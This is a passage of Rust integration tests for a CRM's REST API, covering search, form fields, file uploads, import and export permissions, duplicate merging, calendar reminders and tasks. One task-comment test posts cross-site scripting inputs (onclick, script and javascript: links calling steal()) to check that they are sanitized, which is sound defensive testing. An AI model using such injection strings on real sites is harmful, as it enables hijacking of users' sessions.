        ); // "компания 07"
        assert_eq!(titles(&found), vec!["Компания 07".to_string()], "{backend}");
        // The search follows changes: a renamed card is found by its new name only, a
        // deleted one not at all.
        let search =
            |term: &str| admin.ok("GET", &format!("/api/v1/partners?q={}", enc(term)), None);
        let six = search("компания 06");
        assert_eq!(titles(&six), vec!["Компания 06".to_string()], "{backend}");
        let id = six["rows"][0]["id"].as_i64().unwrap();
        admin.ok(
            "PATCH",
            &format!("/api/v1/partners/{id}"),
            Some(json!({"values": {"title": "Переименована"}})),
        );
        assert_eq!(search("компания 06")["rows"], json!([]), "{backend}");
        assert_eq!(
            titles(&search("ПЕРЕИМЕН")),
            vec!["Переименована".to_string()],
            "{backend}"
        );
        admin.ok(
            "DELETE",
            &format!("/api/v1/partners/{id}?confirm=delete"),
            None,
        );
        assert_eq!(search("переименована")["rows"], json!([]), "{backend}");
        let by_stage = admin.ok(
            "GET",
            "/api/v1/partners?q=%D1%81%D0%B4%D0%B5%D0%BB&limit=100",
            None,
        ); // "сдел"
        assert_eq!(by_stage["rows"].as_array().unwrap().len(), 10, "{backend}");
        // A phone as people type it finds the card by its number; digits inside a term of
        // words do not search phones.
        assert_eq!(
            titles(&search("123-45-67")),
            vec!["Компания 07".to_string()],
            "{backend}"
        );
        assert_eq!(
            titles(&search("+7 495 123")).len(),
            19,
            "{backend}: every card neither archived nor deleted"
        );
        assert_eq!(search("компания 67")["rows"], json!([]), "{backend}");
        // Several words: each must appear in that order.
        assert_eq!(
            search("пания 1")["rows"].as_array().unwrap().len(),
            7,
            "{backend}"
        );
        // Bad input names what is wrong.
        admin.fails(
            "GET",
            "/api/v1/partners?filter.since=yesterday..",
            None,
            422,
            "values.since",
        );
        admin.fails(
            "GET",
            "/api/v1/partners?filter.stage=Nope",
            None,
            422,
            "values.stage",
        );
        admin.fails("GET", "/api/v1/partners?after=garbage", None, 422, "after");
        admin.fails("GET", "/api/v1/partners?limit=0", None, 422, "limit");
        admin.fails("GET", "/api/v1/partners?colour=red", None, 422, "colour");
        // Pages sorted by a number whose value needs 16 digits: each card once.
        for _ in 0..4 {
            admin.ok(
                "POST",
                "/api/v1/partners",
                Some(json!({"values": {"title": "Точная", "revenue": 1234567890.123456}})),
            );
        }
        let precise =
            every_page("/api/v1/partners?sort=revenue&filter.revenue=1000000000..&limit=2");
        let mut ids: Vec<i64> = precise.iter().map(|r| r["id"].as_i64().unwrap()).collect();
        ids.dedup();
        assert_eq!(ids.len(), 4, "{backend}: {precise:?}");
    });
}

#[test]
fn the_form_changes_safely() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        let code = create_field(
            &admin,
            json!({"name": "Код", "latin": "code", "kind": "text", "in_table": true}),
        );
        admin.fails(
            "POST",
            "/api/v1/fields",
            Some(json!({"name": "Код 2", "latin": "code", "kind": "text"})),
            409,
            "latin",
        );
        admin.fails(
            "POST",
            "/api/v1/fields",
            Some(json!({"name": "X", "latin": "Bad Name", "kind": "text"})),
            422,
            "latin",
        );
        admin.fails(
            "POST",
            "/api/v1/fields",
            Some(json!({"name": "X", "latin": "x", "kind": "list"})),
            422,
            "list_id",
        );
        admin.fails(
            "POST",
            "/api/v1/fields",
            Some(json!({"name": "X", "latin": "x", "kind": "colour"})),
            422,
            "kind",
        );
        let a = admin.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"code": "12"}})),
        )["id"]
            .clone();
        let b = admin.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"code": "двенадцать"}})),
        )["id"]
            .clone();
        // Text to number loses one value: refused with the count, then done when confirmed.
        let number = json!({"name": "Код", "latin": "code", "kind": "number", "in_table": true});
        let (status, v) = admin.call(
            "PUT",
            &format!("/api/v1/fields/{code}"),
            Some(number.clone()),
        );
        assert_eq!(status, 409, "{backend}: {v}");
        assert_eq!(v["values_lost"], 1);
        assert_eq!(
            admin.ok("GET", &format!("/api/v1/partners/{b}"), None)["values"]["code"],
            "двенадцать"
        );
        let mut confirmed = number.clone();
        confirmed["confirm_loss"] = json!(true);
        admin.ok("PUT", &format!("/api/v1/fields/{code}"), Some(confirmed));
        assert_eq!(
            admin.ok("GET", &format!("/api/v1/partners/{a}"), None)["values"]["code"],
            12
        );
        assert_eq!(
            admin.ok("GET", &format!("/api/v1/partners/{b}"), None)["values"]["code"],
            Value::Null
        );
        let sorted = admin.ok("GET", "/api/v1/partners?filter.code=10..20", None);
        assert_eq!(
            sorted["rows"].as_array().unwrap().len(),
            1,
            "{backend}: numbers compare as numbers"
        );
        // A list in use cannot go; a field goes with the confirmation word.
        let list = admin.ok(
            "POST",
            "/api/v1/lists",
            Some(json!({"name": "L", "items": [{"name": "a"}, {"name": "b"}]})),
        );
        let lid = list["id"].as_i64().unwrap();
        let uses = create_field(
            &admin,
            json!({"name": "Выбор", "latin": "choice", "kind": "dropdown", "list_id": lid}),
        );
        admin.ok(
            "PATCH",
            &format!("/api/v1/partners/{a}"),
            Some(json!({"values": {"choice": "b"}})),
        );
        let (status, _) = admin.call(
            "DELETE",
            &format!("/api/v1/lists/{lid}?confirm=delete"),
            None,
        );
        assert_eq!(status, 409, "{backend}");
        // Renaming an item keeps the values; removing it clears them.
        let b_item = list["items"][1]["id"].as_i64().unwrap();
        admin.ok(
            "PUT",
            &format!("/api/v1/lists/{lid}"),
            Some(json!({"name": "L", "items": [{"id": b_item, "name": "бэ"}]})),
        );
        assert_eq!(
            admin.ok("GET", &format!("/api/v1/partners/{a}"), None)["values"]["choice"],
            "бэ"
        );
        admin.ok(
            "PUT",
            &format!("/api/v1/lists/{lid}"),
            Some(json!({"name": "L", "items": [{"name": "в"}]})),
        );
        assert_eq!(
            admin.ok("GET", &format!("/api/v1/partners/{a}"), None)["values"]["choice"],
            Value::Null
        );
        admin.fails(
            "DELETE",
            &format!("/api/v1/fields/{uses}"),
            None,
            422,
            "confirm",
        );
        admin.ok(
            "DELETE",
            &format!("/api/v1/fields/{uses}?confirm={DELETE_WORD}"),
            None,
        );
        admin.ok(
            "DELETE",
            &format!("/api/v1/lists/{lid}?confirm={DELETE_WORD}"),
            None,
        );
        assert!(
            admin.ok("GET", &format!("/api/v1/partners/{a}"), None)["values"]
                .get("choice")
                .is_none()
        );
        // Groups too.
        let g = admin.ok("POST", "/api/v1/groups", Some(json!({"name": "g"})))["id"].clone();
        admin.fails(
            "DELETE",
            &format!("/api/v1/groups/{g}"),
            None,
            422,
            "confirm",
        );
        admin.ok(
            "DELETE",
            &format!("/api/v1/groups/{g}?confirm={DELETE_WORD}"),
            None,
        );
        // Only admins shape the form.
        create_user(&admin, "clerk", json!({"contacts": true}));
        let clerk = Api::login(server, "clerk", "password-1");
        let (status, _) = clerk.call(
            "POST",
            "/api/v1/fields",
            Some(json!({"name": "Y", "latin": "y", "kind": "text"})),
        );
        assert_eq!(status, 403);
    });
}

#[test]
fn files_on_cards() {
    let run = |server: &Server, backend: &str| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Название", "latin": "title", "kind": "text"}),
        );
        let card = admin.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "Гамма"}})),
        );
        let id = card["id"].as_i64().unwrap();
        let files = format!("/api/v1/partners/{id}/files");
        let pdf = "%PDF-1.4\n1 0 obj\n<<>>\nendobj\n";
        // The client calls it JSON; the bytes say PDF.
        let (status, _, body) = admin.raw(
            "POST",
            &format!("{files}?name=C%3A%5Cdocs%5C%D0%94%D0%BE%D0%B3%D0%BE%D0%B2%D0%BE%D1%80.pdf"),
            pdf.as_bytes(),
        );
        assert_eq!(status, 201, "{backend}");
        let file: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(file["name"], "Договор.pdf");
        assert_eq!(file["content_type"], "application/pdf");
        assert_eq!(file["size"], pdf.len());
        let listed = admin.ok("GET", &files, None);
        assert_eq!(listed.as_array().unwrap().len(), 1);
        let (status, head, bytes) = admin.raw("GET", &format!("{files}/{}", file["id"]), b"");
        assert_eq!(status, 200);
        assert_eq!(bytes, pdf.as_bytes());
        let head = head.to_lowercase();
        assert!(head.contains("content-type: application/pdf"), "{head}");
        assert!(
            head.contains("filename*=utf-8''%d0%94%d0%be%d0%b3%d0%be%d0%b2%d0%be%d1%80.pdf"),
            "{head}"
        );
        let files_on_disk = || -> usize {
            std::fs::read_dir(server.dir.join("data/files"))
                .unwrap()
                .map(|d| std::fs::read_dir(d.unwrap().path()).unwrap().count())
                .sum()
        };
        assert_eq!(files_on_disk(), 1);
        // Over the limit (1 MiB here): refused, nothing kept.
        let big = "a".repeat(1_500_000);
        let (status, _, body) = admin.raw("POST", &format!("{files}?name=big.txt"), big.as_bytes());
        let body = String::from_utf8(body).unwrap();
        assert!(status == 413 || status == 422, "{backend}: {status} {body}");
        assert!(body.contains("\"field\":\"file\""), "{body}");
        assert_eq!(admin.ok("GET", &files, None).as_array().unwrap().len(), 1);
        // Without the contacts right: read (in a group that shows the card), but neither
        // add nor remove.
        create_user(&admin, "reader", json!({}));
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "readers", "members": ["reader"], "access": {"title": "view"}})),
        );
        let reader = Api::login(server, "reader", "password-1");
        reader.ok("GET", &files, None);
        let (status, _) = reader.call("DELETE", &format!("{files}/{}", file["id"]), None);
        assert_eq!(status, 403);
        admin.ok("DELETE", &format!("{files}/{}", file["id"]), None);
        let (status, _) = admin.call("GET", &format!("{files}/{}", file["id"]), None);
        assert_eq!(status, 404);
        assert_eq!(files_on_disk(), 0);
        let history = admin.ok("GET", &format!("/api/v1/partners/{id}/history"), None);
        let file_lines: Vec<&Value> = history
            .as_array()
            .unwrap()
            .iter()
            .filter(|h| h["action"] == "file")
            .collect();
        assert_eq!(file_lines.len(), 2, "{backend}: {history}");
        assert_eq!(file_lines[0]["old_value"], "Договор.pdf");
        assert_eq!(file_lines[1]["new_value"], "Договор.pdf");
        // Deleting the card deletes its files from the disk too.
        let (status, _, _) = admin.raw("POST", &format!("{files}?name=a.txt"), b"text");
        assert_eq!(status, 201);
        assert_eq!(files_on_disk(), 1);
        admin.ok(
            "DELETE",
            &format!("/api/v1/partners/{id}?confirm=delete"),
            None,
        );
        assert_eq!(files_on_disk(), 0, "{backend}");
    };
    on_both_backends_with(&[("KOLOKOL_CRM__MAX_FILE_MB", "1")], run);
}

/// Percent-encodes a query value.
fn enc(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-._".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[test]
fn import_and_export_keep_to_the_rules() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Компания", "latin": "title", "kind": "text", "in_table": true, "required": true}),
        );
        create_field(
            &admin,
            json!({"name": "Телефон", "latin": "phone", "kind": "phone", "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Сотрудников", "latin": "staff", "kind": "number", "in_table": true}),
        );
        create_field(
            &admin,
            json!({"name": "Секрет", "latin": "secret", "kind": "text", "in_table": true}),
        );
        create_user(&admin, "op", json!({"contacts": true, "reports": true}));
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "ops", "members": ["op"], "access": {"title": "edit", "phone": "edit", "staff": "edit"}})),
        );
        let send = |api: &Api, path: &str, body: &[u8]| -> (u16, Value) {
            let (status, _, out) = api.raw("POST", path, body);
            (status, serde_json::from_slice(&out).unwrap_or(Value::Null))
        };
        // A Russian Excel CSV: ';', a BOM, a column nobody maps.
        let csv = "\u{feff}Компания;Телефон;Сотрудников;Лишнее;Секрет\n\
                   Альфа;8 495 123-45-67;10;x;тайна-1\n\
                   Бета;не телефон;5;y;\n\
                   ;84951112233;3;z;\n\
                   Гамма;+7 812 312 45 67;1 500;w;тайна-2\n";
        let mapping = enc(
            r#"{"Компания":"title","Телефон":"phone","Сотрудников":"staff","Секрет":"secret"}"#,
        );
        let (status, report) = send(
            &admin,
            &format!("/api/v1/partners/import?format=csv&dry_run=true&mapping={mapping}"),
            csv.as_bytes(),
        );
        assert_eq!(status, 200, "{backend}: {report}");
        assert_eq!(report["rows"], 4);
        assert_eq!(report["imported"], 2);
        assert_eq!(report["dry_run"], true);
        let rejected = report["rejected"].as_array().unwrap();
        assert_eq!(
            (rejected[0]["row"].as_u64(), rejected[0]["field"].as_str()),
            (Some(3), Some("phone")),
            "{report}"
        );
        assert_eq!(
            (rejected[1]["row"].as_u64(), rejected[1]["field"].as_str()),
            (Some(4), Some("title")),
            "{report}"
        );
        assert_eq!(
            admin.ok("GET", "/api/v1/partners", None)["rows"],
            json!([]),
            "{backend}: a dry run wrote"
        );
        let (status, report) = send(
            &admin,
            &format!("/api/v1/partners/import?format=csv&mapping={mapping}"),
            csv.as_bytes(),
        );
        assert_eq!(
            (status, report["imported"].as_u64()),
            (200, Some(2)),
            "{report}"
        );
        let table = admin.ok("GET", "/api/v1/partners?sort=title", None);
        assert_eq!(table["rows"][0]["values"]["phone"], "+74951234567");
        assert_eq!(table["rows"][1]["values"]["staff"], 1500);
        assert_eq!(table["rows"][1]["values"]["secret"], "тайна-2");
        // A user may not import into a field they cannot see.
        let op = Api::login(server, "op", "password-1");
        let (status, v) = send(
            &op,
            &format!("/api/v1/partners/import?format=csv&mapping={mapping}"),
            csv.as_bytes(),
        );
        assert_eq!(
            (status, v["field"].as_str()),
            (422, Some("mapping")),
            "{backend}: {v}"
        );
        // Export: the op's file has no secret column and no secret value.
        let (status, head, body) =
            op.raw("GET", "/api/v1/partners/export?format=csv&sort=title", b"");
        assert_eq!(status, 200);
        assert!(head.contains("text/csv"));
        let text = String::from_utf8(body).unwrap();
        let lines: Vec<&str> = text.trim_start_matches('\u{feff}').lines().collect();
        assert_eq!(lines[0], "Компания,Телефон,Сотрудников", "{backend}");
        assert_eq!(lines[1], "Альфа,+74951234567,10");
        assert!(!text.contains("тайна"), "{backend}: {text}");
        let (status, _) = op.call(
            "GET",
            "/api/v1/partners/export?format=csv&sort=secret",
            None,
        );
        assert_eq!(
            status, 422,
            "{backend}: sorting an export by a hidden field"
        );
        // XLSX round trip: the admin's export (a filter applied) imported again by header names.
        let (status, _, xlsx) = admin.raw(
            "GET",
            "/api/v1/partners/export?format=xlsx&filter.staff=100..",
            b"",
        );
        assert_eq!(status, 200);
        assert_eq!(&xlsx[..2], b"PK", "an XLSX is a zip");
        let (status, report) = send(&admin, "/api/v1/partners/import?format=xlsx", &xlsx);
        assert_eq!(
            (status, report["imported"].as_u64()),
            (200, Some(1)),
            "{backend}: {report}"
        );
        let gammas = admin.ok(
            "GET",
            "/api/v1/partners?filter.title=%D0%93%D0%B0%D0%BC%D0%BC%D0%B0",
            None,
        );
        let rows = gammas["rows"].as_array().unwrap();
        assert_eq!(rows.len(), 2, "{backend}: {gammas}");
        assert_eq!(
            rows[0]["values"], rows[1]["values"],
            "{backend}: the round trip changed values"
        );
        // A list exports too; bad formats and files are named.
        let list = admin.ok("POST", "/api/v1/lists", Some(json!({"name": "L", "items": [{"name": "один", "position": 1}, {"name": "два", "position": 2, "hidden_by_default": true}]})));
        let (status, _, body) = admin.raw(
            "GET",
            &format!("/api/v1/lists/{}/export?format=csv", list["id"]),
            b"",
        );
        assert_eq!(status, 200);
        assert!(String::from_utf8(body).unwrap().contains("два,2,true"));
        admin.fails(
            "GET",
            "/api/v1/partners/export?format=pdf",
            None,
            422,
            "format",
        );
        let (status, v) = send(
            &admin,
            "/api/v1/partners/import?format=xlsx",
            b"not a spreadsheet",
        );
        assert_eq!((status, v["field"].as_str()), (422, Some("file")), "{v}");
        // Progress of a larger import reaches the importer's live socket.
        let token = server.cli(&["token", "create", "--user", "boss"]);
        let mut live = common::Live::connect(server, &format!("Bearer {}", token.trim()));
        let mut big = String::from("title;staff\n");
        for i in 0..2500 {
            big.push_str(&format!("Компания {i};{i}\n"));
        }
        let (status, report) = send(&admin, "/api/v1/partners/import?format=csv", big.as_bytes());
        assert_eq!(
            (status, report["imported"].as_u64()),
            (200, Some(2500)),
            "{report}"
        );
        live.until("import progress", std::time::Duration::from_secs(10), |r| {
            r.iter()
                .any(|m| m["type"] == "import" && m["done"] == 2500 && m["total"] == 2500)
        });
        let steps: Vec<u64> = live
            .received
            .iter()
            .filter(|m| m["type"] == "import")
            .map(|m| m["done"].as_u64().unwrap())
            .collect();
        assert_eq!(steps, [1000, 2000, 2500], "{backend}");
    });
}

#[test]
fn duplicates_are_found_and_merged() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Название", "latin": "title", "kind": "text"}),
        );
        create_field(
            &admin,
            json!({"name": "Телефон", "latin": "phone", "kind": "phone"}),
        );
        create_field(
            &admin,
            json!({"name": "E-mail", "latin": "email", "kind": "email"}),
        );
        create_field(
            &admin,
            json!({"name": "ИНН", "latin": "inn", "kind": "text"}),
        );
        let card = |values: Value| -> i64 {
            admin.ok(
                "POST",
                "/api/v1/partners",
                Some(json!({ "values": values })),
            )["id"]
                .as_i64()
                .unwrap()
        };
        let a = card(
            json!({"title": "Альфа", "phone": "+74951234567", "email": "a@alfa.ru", "inn": "7701"}),
        );
        let b = card(json!({"title": "Альфа ООО", "phone": "8 (495) 123-45-67"}));
        let c = card(json!({"title": "alfa", "email": "A@ALFA.RU"}));
        let d = card(json!({"title": "Дельта", "inn": "7701"}));
        card(json!({"title": "Одна", "phone": "+78123124567"}));
        let groups = admin.ok("GET", "/api/v1/partners/duplicates", None);
        assert_eq!(
            groups,
            json!([
                {"field": "phone", "value": "+74951234567", "partners": [a, b]},
                {"field": "email", "value": "a@alfa.ru", "partners": [a, c]},
            ]),
            "{backend}"
        );
        let by_inn = admin.ok("GET", "/api/v1/partners/duplicates?field=inn", None);
        assert_eq!(by_inn[0]["partners"], json!([a, d]), "{backend}");
        admin.fails(
            "GET",
            "/api/v1/partners/duplicates?field=nothing",
            None,
            422,
            "values.nothing",
        );
        // B has a file, history, an event and a task of its own; all move to A.
        let (status, _, _) = admin.raw(
            "POST",
            &format!("/api/v1/partners/{b}/files?name=b.txt"),
            b"from b",
        );
        assert_eq!(status, 201);
        let event = admin.ok(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "Позвонить", "at": "2026-12-01T10:00:00+03:00", "partner_id": b})),
        );
        let task = admin.ok(
            "POST",
            "/api/v1/tasks",
            Some(json!({"title": "Счёт", "partners": [a, b]})),
        );
        admin.fails(
            "POST",
            "/api/v1/partners/merge",
            Some(json!({"survivor": a, "merged": [a, b]})),
            422,
            "merged",
        );
        create_user(&admin, "viewer", json!({}));
        let viewer = Api::login(server, "viewer", "password-1");
        let (status, _) = viewer.call(
            "POST",
            "/api/v1/partners/merge",
            Some(json!({"survivor": a, "merged": [b]})),
        );
        assert_eq!(status, 403);
        let merged = admin.ok(
            "POST",
            "/api/v1/partners/merge",
            Some(json!({"survivor": a, "merged": [b, c], "values": {"title": "Альфа ООО"}})),
        );
        assert_eq!(merged["values"]["title"], "Альфа ООО", "{backend}");
        assert_eq!(merged["values"]["inn"], "7701");
        for gone in [b, c] {
            let (status, _) = admin.call("GET", &format!("/api/v1/partners/{gone}"), None);
            assert_eq!(status, 404, "{backend}");
        }
        let files = admin.ok("GET", &format!("/api/v1/partners/{a}/files"), None);
        assert_eq!(files[0]["name"], "b.txt", "{backend}");
        let (_, _, content) = admin.raw(
            "GET",
            &format!("/api/v1/partners/{a}/files/{}", files[0]["id"]),
            b"",
        );
        assert_eq!(content, b"from b");
        let history = admin.ok("GET", &format!("/api/v1/partners/{a}/history"), None);
        let text = history.to_string();
        assert!(text.contains("\"merged\""), "{backend}: {history}");
        assert!(
            text.contains("+74951234567") && text.contains("b.txt"),
            "B's history moved: {history}"
        );
        let moved = admin.ok("GET", &format!("/api/v1/events/{}", event["id"]), None);
        assert_eq!(moved["partner_id"], a, "{backend}");
        let task = admin.ok("GET", &format!("/api/v1/tasks/{}", task["id"]), None);
        assert_eq!(task["partners"], json!([a]), "{backend}");
        let groups = admin.ok("GET", "/api/v1/partners/duplicates", None);
        assert_eq!(groups, json!([]), "{backend}");
    });
}

#[test]
fn calendar_events_remind_and_chain() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Название", "latin": "title", "kind": "text"}),
        );
        let partner = admin.ok(
            "POST",
            "/api/v1/partners",
            Some(json!({"values": {"title": "Омега"}})),
        )["id"]
            .clone();
        create_user(&admin, "ivanova", json!({}));
        let ivanova = Api::login(server, "ivanova", "password-1");
        let token = server.cli(&["token", "create", "--user", "ivanova"]);
        let mut live = common::Live::connect(server, &format!("Bearer {}", token.trim()));
        // Due in a minute with a one-minute reminder: the reminder is due now.
        let at = (chrono::Utc::now() + chrono::Duration::minutes(1)).to_rfc3339();
        let call_back = admin.ok(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "Перезвонить", "kind": "звонок", "at": at, "remind_min": 1, "partner_id": partner, "assignee": "ivanova"})),
        );
        assert_eq!(call_back["initiator"], "boss");
        live.until("the reminder", std::time::Duration::from_secs(10), |r| {
            r.iter()
                .any(|m| m["type"] == "reminder" && m["event"]["id"] == call_back["id"])
        });
        // Once only, and only to the assignee: a later one (an hour's reminder an hour
        // ahead) also arrives, the first does not come again.
        let later = (chrono::Utc::now() + chrono::Duration::minutes(60)).to_rfc3339();
        let second = ivanova.ok(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "Встреча", "at": later, "remind_min": 60, "follows": call_back["id"]})),
        );
        live.until(
            "the second reminder",
            std::time::Duration::from_secs(10),
            |r| {
                r.iter()
                    .any(|m| m["type"] == "reminder" && m["event"]["id"] == second["id"])
            },
        );
        let firsts = live
            .received
            .iter()
            .filter(|m| m["event"]["id"] == call_back["id"])
            .count();
        assert_eq!(firsts, 1, "{backend}: reminded twice");
        // A reminder due while its user has no live socket waits for them. It is set up
        // before one for a user online: once that one arrives, the reminders loop has
        // passed the absent user's too.
        create_user(&admin, "petrov", json!({}));
        let soon = (chrono::Utc::now() + chrono::Duration::minutes(1)).to_rfc3339();
        let away = admin.ok(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "Пока нет на месте", "at": soon, "remind_min": 5, "assignee": "petrov"})),
        );
        let third = admin.ok(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "Третье", "at": soon, "remind_min": 5, "assignee": "ivanova"})),
        );
        live.until(
            "the third reminder",
            std::time::Duration::from_secs(10),
            |r| {
                r.iter()
                    .any(|m| m["type"] == "reminder" && m["event"]["id"] == third["id"])
            },
        );
        let petrov_token = server.cli(&["token", "create", "--user", "petrov"]);
        let mut petrov_live =
            common::Live::connect(server, &format!("Bearer {}", petrov_token.trim()));
        petrov_live.until(
            "the missed reminder",
            std::time::Duration::from_secs(10),
            |r| {
                r.iter()
                    .any(|m| m["type"] == "reminder" && m["event"]["id"] == away["id"])
            },
        );
        assert!(
            !live.received.iter().any(|m| m["event"]["id"] == away["id"]),
            "{backend}: someone else's reminder"
        );
        admin.ok(
            "POST",
            &format!("/api/v1/events/{}/complete", third["id"]),
            None,
        );
        // The chain both ways.
        let first = ivanova.ok("GET", &format!("/api/v1/events/{}", call_back["id"]), None);
        assert_eq!(first["followed_by"], json!([second["id"]]), "{backend}");
        assert_eq!(second["follows"], call_back["id"]);
        // Counter, month view, completion keeps the time.
        let counters = ivanova.ok("GET", "/api/v1/me/counters", None);
        assert_eq!(counters["events"], 2, "{backend}");
        let from = (chrono::Utc::now() - chrono::Duration::days(1)).to_rfc3339();
        let to = (chrono::Utc::now() + chrono::Duration::days(30)).to_rfc3339();
        let month = ivanova.ok(
            "GET",
            &format!("/api/v1/events?from={}&to={}", enc(&from), enc(&to)),
            None,
        );
        assert_eq!(
            month.as_array().unwrap().len(),
            3,
            "{backend}: completed ones stay on the calendar"
        );
        let done = ivanova.ok(
            "POST",
            &format!("/api/v1/events/{}/complete", call_back["id"]),
            None,
        );
        assert!(done["completed_at"].is_string());
        assert_eq!(ivanova.ok("GET", "/api/v1/me/counters", None)["events"], 1);
        // Strangers neither see nor complete it; bad input is named.
        create_user(&admin, "other", json!({}));
        let other = Api::login(server, "other", "password-1");
        let (status, _) = other.call("GET", &format!("/api/v1/events/{}", second["id"]), None);
        assert_eq!(status, 403);
        let (status, _) = other.call(
            "POST",
            &format!("/api/v1/events/{}/complete", second["id"]),
            None,
        );
        assert_eq!(status, 403);
        let (status, _) = other.call(
            "GET",
            &format!(
                "/api/v1/events?from={}&to={}&user=ivanova",
                enc(&from),
                enc(&to)
            ),
            None,
        );
        assert_eq!(status, 403);
        ivanova.fails(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "x", "at": "завтра"})),
            422,
            "at",
        );
        ivanova.fails(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "x", "at": at, "assignee": "ghost"})),
            422,
            "assignee",
        );
        ivanova.fails(
            "POST",
            "/api/v1/events",
            Some(json!({"description": "x", "at": at, "partner_id": 999999})),
            422,
            "partner_id",
        );
    });
}

#[test]
fn tasks_move_across_the_board() {
    on_both_backends(|server, backend| {
        let admin = Api::admin(server);
        create_field(
            &admin,
            json!({"name": "Город", "latin": "city", "kind": "text", "in_table": true}),
        );
        for city in ["Казань", "Казань", "Омск"] {
            admin.ok(
                "POST",
                "/api/v1/partners",
                Some(json!({"values": {"city": city}})),
            );
        }
        create_user(&admin, "lead", json!({"tasks": true}));
        let worker_id = create_user(&admin, "worker", json!({}));
        create_user(&admin, "outsider", json!({}));
        // The filter is the lead's table: they must see the field it names.
        admin.ok(
            "POST",
            "/api/v1/groups",
            Some(json!({"name": "leads", "members": ["lead"], "access": {"city": "view"}})),
        );
        let lead = Api::login(server, "lead", "password-1");
        let worker = Api::login(server, "worker", "password-1");
        // Without the tasks right no task is created.
        let (status, _) = worker.call("POST", "/api/v1/tasks", Some(json!({"title": "x"})));
        assert_eq!(status, 403);
        // The partners the table shows for a filter come with the task.
        let task = lead.ok(
            "POST",
            "/api/v1/tasks",
            Some(json!({"title": "Обзвонить Казань", "assignee": "worker", "priority": "high", "due_on": "30.11.2026", "partner_filter": "filter.city=%D0%9A%D0%B0%D0%B7%D0%B0%D0%BD%D1%8C"})),
        );
        assert_eq!(
            task["partners"].as_array().unwrap().len(),
            2,
            "{backend}: {task}"
        );
        assert_eq!(task["status"], "todo");
        assert_eq!(task["due_on"], "2026-11-30");
        let path = format!("/api/v1/tasks/{}", task["id"]);
        assert_eq!(worker.ok("GET", "/api/v1/me/counters", None)["tasks"], 1);
        // The assignee moves it; closing needs the hours.
        worker.ok("PATCH", &path, Some(json!({"status": "in_progress"})));
        worker.fails(
            "PATCH",
            &path,
            Some(json!({"status": "closed_by_assignee"})),
            422,
            "hours_spent",
        );
        worker.fails(
            "PATCH",
            &path,
            Some(json!({"status": "done", "hours_spent": 0})),
            422,
            "hours_spent",
        );
        worker.fails(
            "PATCH",
            &path,
            Some(json!({"status": "archived"})),
            422,
            "status",
        );
        let closed = worker.ok(
            "PATCH",
            &path,
            Some(json!({"status": "closed_by_assignee", "hours_spent": 2.5})),
        );
        assert_eq!(closed["hours_spent"], 2.5);
        assert_eq!(
            worker.ok("GET", "/api/v1/me/counters", None)["tasks"],
            0,
            "{backend}"
        );
        lead.ok("PATCH", &path, Some(json!({"status": "done"})));
        // Comments and the history of every change.
        worker.ok(
            "POST",
            &format!("{path}/comments"),
            Some(json!({"body": "<p>Готово, <b>два звонка</b></p>"})),
        );
        let comments = lead.ok("GET", &format!("{path}/comments"), None);
        assert_eq!(comments[0]["user_name"], "User worker");
        let history = lead.ok("GET", &format!("{path}/history"), None);
        let statuses: Vec<&str> = history
            .as_array()
            .unwrap()
            .iter()
            .filter(|h| h["field"] == "status")
            .map(|h| h["new_value"].as_str().unwrap())
            .collect();
        assert_eq!(
            statuses,
            ["in_progress", "closed_by_assignee", "done"],
            "{backend}: {history}"
        );
        // Rich-text comments keep their formatting, never a script.
        worker.ok(
            "POST",
            &format!("{path}/comments"),
            Some(json!({"body": "<b onclick=\"steal()\">Важно</b><script>steal()</script><a href=\"javascript:steal()\">ссылка</a>"})),
        );
        let comments = lead.ok("GET", &format!("{path}/comments"), None);
        let body = comments[1]["body"].as_str().unwrap();
        assert!(body.contains("<b>Важно</b>"), "{backend}: {body}");
        assert!(!body.contains("steal"), "{backend}: {body}");
        assert_eq!(
            comments[0]["body"], "<p>Готово, <b>два звонка</b></p>",
            "{backend}"
        );
        // Files on the task: attached, listed, downloaded, removed, each in its history.
        let files = format!("{path}/files");
        let pdf = b"%PDF-1.7\n% a report\n";
        let (status, _, body) =
            worker.raw("POST", &format!("{files}?name={}", enc("Отчёт.pdf")), pdf);
        assert_eq!(status, 201, "{backend}: {}", String::from_utf8_lossy(&body));
        let file: Value = serde_json::from_slice(&body).unwrap();
        assert_eq!(file["content_type"], "application/pdf", "{backend}");
        let listed = lead.ok("GET", &files, None);
        assert_eq!(listed[0]["name"], "Отчёт.pdf", "{backend}: {listed}");
        let (status, _, bytes) = lead.raw("GET", &format!("{files}/{}", file["id"]), b"");
        assert_eq!((status, bytes.as_slice()), (200, &pdf[..]), "{backend}");
        // The calendar view: tasks on the days of a period.
        let november = lead.ok("GET", "/api/v1/tasks?period=2026-11-01..2026-11-30", None);
        assert_eq!(november[0]["id"], task["id"], "{backend}: {november}");
        let december = lead.ok("GET", "/api/v1/tasks?period=01.12.2026..31.12.2026", None);
        assert_eq!(december, json!([]), "{backend}");
        lead.fails("GET", "/api/v1/tasks?period=someday", None, 422, "period");
        lead.fails("GET", "/api/v1/tasks?colour=red", None, 422, "colour");
        // Someone else's task stays theirs, its files too.
        let outsider = Api::login(server, "outsider", "password-1");
        let (status, _) = outsider.call("GET", &files, None);
